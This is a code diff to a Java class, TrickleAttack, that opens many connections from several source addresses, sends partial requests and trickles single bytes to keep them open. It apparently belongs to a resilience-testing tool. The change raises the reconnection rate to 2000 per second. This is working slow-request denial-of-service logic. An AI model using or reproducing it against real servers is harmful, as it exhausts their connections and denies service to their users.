@@ -13,17 +13,21 @@ import java.time.Duration;
 import java.util.ArrayList;
 import java.util.Iterator;
 import java.util.List;
+import java.util.concurrent.TimeUnit;
 import java.util.function.Supplier;
 
 /**
  * Many connections that send the beginning of a request and then a byte now and then. A
- * connection that the server closes is opened again.
+ * connection that the server closes is opened again, as fast as {@value #PER_SECOND} in a
+ * second allow: attackers from elsewhere take none of the services' processors.
  */
 final class TrickleAttack implements Attack {
 
-	private static final int CONNECTIONS_PER_ROUND = 100;
+	private static final int PER_SECOND = 2000;
 
-	private static final long ROUND_MILLIS = 50;
+	private static final Duration ROUND = Duration.ofMillis(50);
+
+	private static final int CONNECTIONS_PER_ROUND = (int) (PER_SECOND * ROUND.toMillis() / 1000);
 
 	private final List<InetAddress> sources;
 
@@ -71,13 +75,9 @@ final class TrickleAttack implements Attack {
 		try (Selector selector = Selector.open()) {
 			try {
 				long nextByte = System.nanoTime() + this.interval.toNanos();
-				while (System.nanoTime() < end) {
-					if (Thread.interrupted()) {
-						throw new InterruptedException();
-					}
+				for (long next = System.nanoTime(); System.nanoTime() < end; next += ROUND.toNanos()) {
 					connect(selector);
-					selector.select(ROUND_MILLIS);
-					handle(selector);
+					handleUntil(next + ROUND.toNanos(), selector);
 					if (System.nanoTime() >= nextByte) {
 						openConnections(selector).forEach(this::sendByte);
 						nextByte = System.nanoTime() + this.interval.toNanos();
@@ -108,6 +108,17 @@ final class TrickleAttack implements Attack {
 		}
 	}
 
+	private void handleUntil(long end, Selector selector) throws IOException, InterruptedException {
+		for (long left = end - System.nanoTime(); left > 0; left = end - System.nanoTime()) {
+			if (Thread.interrupted()) {
+				throw new InterruptedException();
+			}
+			selector.select(Math.max(1, TimeUnit.NANOSECONDS.toMillis(left)));
+			handle(selector);
+		}
+		this.mostOpen = Math.max(this.mostOpen, openConnections(selector).size());
+	}
+
 	private void handle(Selector selector) {
 		for (Iterator<SelectionKey> keys = selector.selectedKeys().iterator(); keys.hasNext();) {
 			SelectionKey key = keys.next();
@@ -119,7 +130,6 @@ final class TrickleAttack implements Attack {
 				read(key);
 			}
 		}
-		this.mostOpen = Math.max(this.mostOpen, openConnections(selector).size());
 	}
 
 	private void begin(SelectionKey key) {
